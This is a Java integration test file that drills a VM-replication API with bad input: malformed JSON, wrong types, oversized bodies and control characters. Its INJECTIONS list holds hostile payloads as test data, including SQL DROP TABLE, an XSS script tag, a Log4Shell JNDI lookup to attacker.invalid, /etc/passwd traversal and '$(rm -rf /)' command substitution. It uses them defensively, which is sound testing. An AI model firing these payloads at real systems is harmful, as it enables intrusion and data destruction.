package io.migratekit.intake;

import static org.assertj.core.api.Assertions.assertThat;

import io.migratekit.events.ReplicationRequested;
import io.migratekit.intake.request.SampleBodies;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.Collection;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.stream.Stream;
import org.apache.avro.specific.SpecificRecord;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.jooq.Record;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/**
 * Drill 7 of docs/reliability.md: bad input at the running API (real HTTP, broker, registry and
 * PostgreSQL). Each bad body — malformed JSON, wrong types, missing fields, unknown enum values, an
 * oversized body, very long strings, control characters — is a 4xx whose details name the problem,
 * publishes nothing on either command topic and leaves every table of the read model as it was.
 * Unicode names and injection-shaped strings in every string field are either refused naming the
 * field or carried verbatim into the published event, and the read model survives them. The
 * property-based side is {@link HttpFuzzTest} (any body) and {@link FieldMutationFuzzTest} (any
 * value in any field).
 */
class BadInputDrillTest {

    static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE replication_jobs; --",
            "\" OR \"1\"=\"1",
            "<script>alert('x')</script>",
            "${jndi:ldap://attacker.invalid/a}",
            "../../../../etc/passwd",
            "{{7*7}} %s%n%x",
            "$(rm -rf /) `id`");
    static final String UNICODE_NAME = "数据库-サーバー-ñandú-Ελλάδα-😀";
    /** A field of the seed's body that the API does not know and ignores by design: it is carried nowhere. */
    static final String UNKNOWN_FIELD = "source_vm.disks[0].extra";

    private static IntakeStack stack;
    private static PlayedPipeline pipeline;
    private static Http http;
    private final JsonMapper json = JsonMapper.builder().build();

    @BeforeAll
    static void start() {
        stack = IntakeStack.get();
        pipeline = new PlayedPipeline(stack.infra.bootstrapServers(), stack.registry);
        http = new Http(stack.baseUrl);
    }

    @AfterAll
    static void stop() {
        pipeline.close();
    }

    static Stream<Arguments> badReplications() {
        String vm = UUID.randomUUID().toString();
        String minimal = SampleBodies.minimal(vm, "bad-input").strip();
        String full = SampleBodies.full(vm);
        return Stream.of(
                Arguments.of("malformed JSON", "{\"source_vm\": {\"id\": ", 400, "not valid JSON"),
                Arguments.of("not an object", "[1, 2, 3]", 400, "must be a JSON object"),
                Arguments.of("empty body", "", 400, "request body"),
                Arguments.of("string for an integer", full.replace("\"cpus\": 2", "\"cpus\": \"two\""), 400,
                        "source_vm.cpus must be an integer"),
                Arguments.of("string for a boolean", full.replace("\"start_replication\": true",
                        "\"start_replication\": \"yes\""), 400, "start_replication must be true or false"),
                Arguments.of("object for a string", minimal.replace("\"name\": \"bad-input\"", "\"name\": {\"x\": 1}"),
                        400, "source_vm.name must be a string"),
                Arguments.of("array for an object", "{\"source_vm\": [\"a\"]}", 400, "source_vm must be a JSON object"),
                Arguments.of("negative number", full.replace("\"ossea_config_id\": 1", "\"ossea_config_id\": -1"), 400,
                        "ossea_config_id must be between"),
                Arguments.of("missing path", minimal.replace(", \"path\": \"/DC1/vm/bad-input\"", ""), 400,
                        "source_vm.path"),
                Arguments.of("missing source_vm", "{\"ossea_config_id\": 1}", 400, "source_vm"),
                Arguments.of("blank id", minimal.replace("\"id\": \"" + vm + "\"", "\"id\": \"   \""), 400,
                        "source_vm.id"),
                Arguments.of("unknown replication type", full.replace("\"replication_type\": \"initial\"",
                        "\"replication_type\": \"differential\""), 400, "replication_type must be one of"),
                Arguments.of("very long name", minimal.replace("\"name\": \"bad-input\"",
                        "\"name\": \"" + "n".repeat(100_000) + "\""), 400, "source_vm.name is longer than"),
                Arguments.of("control character in a name", minimal.replace("\"name\": \"bad-input\"",
                        "\"name\": \"bad\\u0000input\""), 400, "source_vm.name contains control characters"),
                Arguments.of("oversized body", minimal.replace("}}", "}, \"pad\": \"" + "x".repeat(1024 * 1024) + "\"}"),
                        413, "exceeds 1048576 bytes"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("badReplications")
    void aBadReplicationRequestIsA4xxNamingTheProblemAndChangesNothing(String what, String body, int status,
            String detailsMention) {
        Map<String, List<String>> readModelBefore = readModel();

        HttpResponse<String> response = http.post("/api/v1/replications", IntakeStack.OPERATOR_TOKEN, body);

        assertThat(response.statusCode()).as("%s: %s", what, response.body()).isEqualTo(status);
        JsonNode answer = json.readTree(response.body());
        assertThat(answer.get("error").asString()).isNotBlank();
        assertThat(answer.get("details").asString()).as(what).contains(detailsMention);
        assertThat(pipeline.remainingRequests()).as("published after: %s", what).isEmpty();
        assertThat(readModel()).isEqualTo(readModelBefore);
    }

    static Stream<Arguments> badFailovers() {
        return Stream.of(
                Arguments.of("malformed JSON", "{\"vm_name\": ", "not valid JSON"),
                Arguments.of("missing vm", "{\"failover_type\": \"test\"}", "context_id or vm_name is required"),
                Arguments.of("number for a name", "{\"vm_name\": 5, \"failover_type\": \"test\"}",
                        "vm_name must be a string"),
                Arguments.of("unknown failover type", "{\"vm_name\": \"pgtest1\", \"failover_type\": \"sideways\"}",
                        "failover_type must be one of"),
                Arguments.of("deadline out of range", "{\"vm_name\": \"pgtest1\", \"failover_type\": \"live\", "
                        + "\"final_sync_deadline_minutes\": 0}", "final_sync_deadline_minutes must be between"),
                Arguments.of("string for a boolean", "{\"vm_name\": \"pgtest1\", \"failover_type\": \"live\", "
                        + "\"power_on_source_on_failure\": \"no\"}", "power_on_source_on_failure must be true or false"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("badFailovers")
    void aBadFailoverRequestIsA400NamingTheProblemAndChangesNothing(String what, String body, String detailsMention) {
        Map<String, List<String>> readModelBefore = readModel();

        HttpResponse<String> response = http.post("/api/v1/failovers", IntakeStack.OPERATOR_TOKEN, body);

        assertThat(response.statusCode()).as("%s: %s", what, response.body()).isEqualTo(400);
        assertThat(json.readTree(response.body()).get("details").asString()).as(what).contains(detailsMention);
        assertThat(pipeline.remainingFailovers()).as("published after: %s", what).isEmpty();
        assertThat(readModel()).isEqualTo(readModelBefore);
    }

    @Test
    void injectionShapedStringsInEveryStringFieldAreRefusedOrCarriedVerbatim() {
        Map<String, List<String>> readModelBefore = readModel();
        String vm = UUID.randomUUID().toString();
        List<String> fields = JsonPaths.leaves(json.readTree(SampleBodies.full(vm)), JsonNode::isString).stream()
                .filter(field -> !field.equals(UNKNOWN_FIELD)).toList();
        int carried = 0;
        for (String field : fields) {
            for (String injection : INJECTIONS) {
                ObjectNode body = (ObjectNode) json.readTree(SampleBodies.full(vm));
                JsonPaths.replace(body, field, body.stringNode(injection));

                HttpResponse<String> response = http.post("/api/v1/replications", IntakeStack.OPERATOR_TOKEN,
                        body.toString(), "Prefer", "respond-async");

                List<ConsumerRecord<String, ReplicationRequested>> published = pipeline.remainingRequests();
                if (response.statusCode() == 202) {
                    assertThat(published).as("%s = %s", field, injection).hasSize(1);
                    assertThat(strings(published.get(0).value())).as("%s = %s", field, injection).contains(injection);
                    carried++;
                } else {
                    assertThat(response.statusCode()).as("%s = %s: %s", field, injection, response.body())
                            .isEqualTo(400);
                    assertThat(json.readTree(response.body()).get("details").asString()).contains(JsonPaths.lastName(field));
                    assertThat(published).isEmpty();
                }
            }
        }
        System.out.printf("bad-input drill: %d string fields x %d injection strings, %d carried verbatim%n",
                fields.size(), INJECTIONS.size(), carried);
        assertThat(carried).isPositive();
        assertThat(readModel()).isEqualTo(readModelBefore);
    }

    @Test
    void aUnicodeNameIsAcceptedAndPublishedAsSent() {
        String vm = UUID.randomUUID().toString();
        ObjectNode body = (ObjectNode) json.readTree(SampleBodies.minimal(vm, "x"));
        ((ObjectNode) body.get("source_vm")).put("name", UNICODE_NAME).put("path", "/DC1/vm/" + UNICODE_NAME);

        HttpResponse<String> response = http.post("/api/v1/replications", IntakeStack.OPERATOR_TOKEN,
                body.toString(), "Prefer", "respond-async");

        assertThat(response.statusCode()).as(response.body()).isEqualTo(202);
        ReplicationRequested published = pipeline.nextRequest(vm).value();
        assertThat(published.getRequest().getSourceVm().getName()).isEqualTo(UNICODE_NAME);
        assertThat(published.getRequest().getSourceVm().getPath()).isEqualTo("/DC1/vm/" + UNICODE_NAME);
        assertThat(pipeline.remainingRequests()).isEmpty();
    }

    /** Every table of the read model, each as its rows in PostgreSQL's text form, sorted. */
    private static Map<String, List<String>> readModel() {
        Map<String, List<String>> tables = new TreeMap<>();
        for (Record table : stack.db.fetch("select table_name from information_schema.tables"
                + " where table_schema = 'public' and table_type = 'BASE TABLE'")) {
            String name = table.get(0, String.class);
            tables.put(name, stack.db.fetch("select t::text from \"" + name + "\" t order by 1")
                    .getValues(0, String.class));
        }
        return tables;
    }

    /** Every string anywhere in an Avro record. */
    static List<String> strings(Object value) {
        List<String> found = new ArrayList<>();
        if (value instanceof SpecificRecord record) {
            for (int i = 0; i < record.getSchema().getFields().size(); i++) {
                found.addAll(strings(record.get(i)));
            }
        } else if (value instanceof Collection<?> items) {
            items.forEach(item -> found.addAll(strings(item)));
        } else if (value instanceof Map<?, ?> map) {
            map.values().forEach(item -> found.addAll(strings(item)));
        } else if (value instanceof CharSequence text) {
            found.add(text.toString());
        }
        return found;
    }
}
